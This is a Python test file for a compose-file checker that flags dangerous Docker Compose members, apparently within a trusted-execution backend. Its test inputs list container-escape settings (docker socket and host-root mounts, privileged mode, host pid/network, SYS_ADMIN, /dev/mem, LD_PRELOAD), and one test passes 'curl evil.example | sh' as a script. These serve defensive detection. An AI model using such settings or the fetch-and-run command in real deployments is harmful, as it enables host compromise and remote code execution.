"""Tests of what the members of a compose file allow (AT71)."""

import json

import pytest
from compose_schema import COMPOSE_SCHEMA, COMPOSE_SCHEMA_ABSENT
from measured_files import PINNED, app_compose

from tee_backend.measuring.compose_files import parse_compose
from tee_backend.measuring.compose_members import TABLE, Line

VOLUME = f"{PINNED}volumes:\n  kept:\n"
DANGEROUS = {
    "docker socket": f"{PINNED}    volumes: ['/var/run/docker.sock:/s']\n",
    "folder of the socket": f"{PINNED}    volumes: ['/var/run:/run']\n",
    "machine": f"{PINNED}    volumes: ['/:/host']\n",
    "privileged true": f"{PINNED}    privileged: true\n",
    "privileged yes": f"{PINNED}    privileged: yes\n",
    "privileged on": f"{PINNED}    privileged: 'ON'\n",
    "privileged 1": f"{PINNED}    privileged: 1\n",
    "merged": f"x-a: &a {{privileged: y}}\n{PINNED}    <<: *a\n",
    "pid": f"{PINNED}    pid: host\n",
    "ipc": f"{PINNED}    ipc: host\n",
    "network": f"{PINNED}    network_mode: host\n",
    "rights": f"{PINNED}    cap_add: [SYS_ADMIN]\n",
    "devices": f"{PINNED}    devices: ['/dev/mem']\n",
    "confinement": f"{PINNED}    security_opt: ['apparmor:unconfined']\n",
    "API socket": f"{PINNED}    use_api_socket: true\n",
    "volumes of others": f"{PINNED}    volumes_from: [a]\n",
    "preload": f"{PINNED}    environment: {{LD_PRELOAD: /x.so}}\n",
    "env_file": f"{PINNED}    env_file: .env\n",
    "text of several lines": f"{PINNED}    volumes:\n      - |\n        /:/host\n",
    "operator's config": f"{PINNED}configs: {{a: {{file: ./a}}}}\n",
    "operator's secret": f"{PINNED}secrets: {{a: {{environment: A}}}}\n",
    "NFS": f"{VOLUME}    driver_opts: {{type: nfs, device: ':/x'}}\n",
    "model": f"{PINNED}models: {{a: {{model: b}}}}\n",
}


def lines_of(data: bytes) -> tuple[Line, ...]:
    """Return the lines of a file that need not be pinned."""
    return parse_compose(data, file="compose.yaml", is_pinned=False).lines


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS)
def test_what_is_not_harmless(text: str) -> None:
    """What gives a service power, or code from elsewhere, has one line with its sentence."""
    (line,) = lines_of(text.encode())
    assert line.sentence != TABLE["unknown"]


@pytest.mark.parametrize("script", ["pre_launch_script", "init_script", "bash_script"])
def test_scripts(script: str) -> None:
    """Each script of an application has a line."""
    (line,) = lines_of(app_compose(**{script: "curl evil.example | sh"}))
    assert line.place == script


@pytest.mark.parametrize("value", ["false", "no", "Off", "''"])
def test_harmless_values(value: str) -> None:
    """A service that is said not to be privileged has no line."""
    assert lines_of(f"{PINNED}    privileged: {value}\n".encode()) == ()


PLACES = {
    "application": "surprise",
    "file": "surprise",
    "service": "services.notes.surprise",
    "volume": "volumes.a.surprise",
    "network": "networks.a.surprise",
    "config": "configs.a.surprise",
    "secret": "secrets.a.surprise",
}


@pytest.mark.parametrize(("level", "place"), PLACES.items())
def test_other_members(level: str, place: str) -> None:
    """A member that the table does not have is named as not understood, at each level."""
    data = {
        "application": app_compose(surprise=None),
        "file": f"{PINNED}surprise: 1\n".encode(),
        "service": f"{PINNED}    surprise:\n".encode(),
    }.get(level, f"{PINNED}{level}s: {{a: {{surprise: ''}}}}\n".encode())
    assert lines_of(data) == (Line(place=place, sentence="not understood"),)


@pytest.mark.skipif(COMPOSE_SCHEMA is None, reason=COMPOSE_SCHEMA_ABSENT)
def test_members_of_the_specification() -> None:
    """Each member of the Compose specification is in the table, or named as not understood."""
    definitions = COMPOSE_SCHEMA.get("definitions") or COMPOSE_SCHEMA["$defs"]
    service_names = set()
    for name in ("service", "workload_spec", "container_spec"):
        service_names |= set(definitions.get(name, {}).get("properties", {}))
    for name in sorted(service_names):
        named = {line.place for line in lines_of(_with_member(name))}
        is_harmless = TABLE["levels"]["service"].get(name) == {}
        assert is_harmless != any(place.startswith(f"services.a.{name}") for place in named), name
    for level in ("volume", "network", "config", "secret"):
        for name in definitions[level]["properties"]:
            text = f"{PINNED}{level}s: {{a: {{{name}: surprising}}}}\n"
            is_harmless = TABLE["levels"][level].get(name) == {}
            assert is_harmless != bool(lines_of(text.encode())), (level, name)


def _with_member(name: str) -> bytes:
    service = {"image": "acme/notes@sha256:" + "ab" * 32} | {name: "surprising"}
    return ("x-a: 1\n" + json.dumps({"services": {"a": service}})[1:-1] + "\n").encode()


def test_the_digest_names_the_lines() -> None:
    """The digest of lines changes with each of their parts, and not with what is harmless."""
    texts = (
        f"{PINNED}    privileged: true\n",
        f"{PINNED}    pid: host\n",
        f"{PINNED}    volumes: ['/a:/b']\n",
        f"{PINNED}    volumes: ['/c:/b']\n",
    )
    digests = [parse_compose(text.encode(), file="a").lines_digest for text in texts]
    assert len(set(digests)) == len(texts)
    again = f"{PINNED}    privileged: true\n    hostname: a\n"
    assert parse_compose(again.encode(), file="b").lines_digest == digests[0]


def test_too_many_lines() -> None:
    """A file with more lines than a person reads is refused, not cut."""
    names = "".join(f"    a{number}: 1\n" for number in range(513))
    with pytest.raises(Exception, match="more than 512 of its members"):
        lines_of(f"{PINNED}{names}".encode())
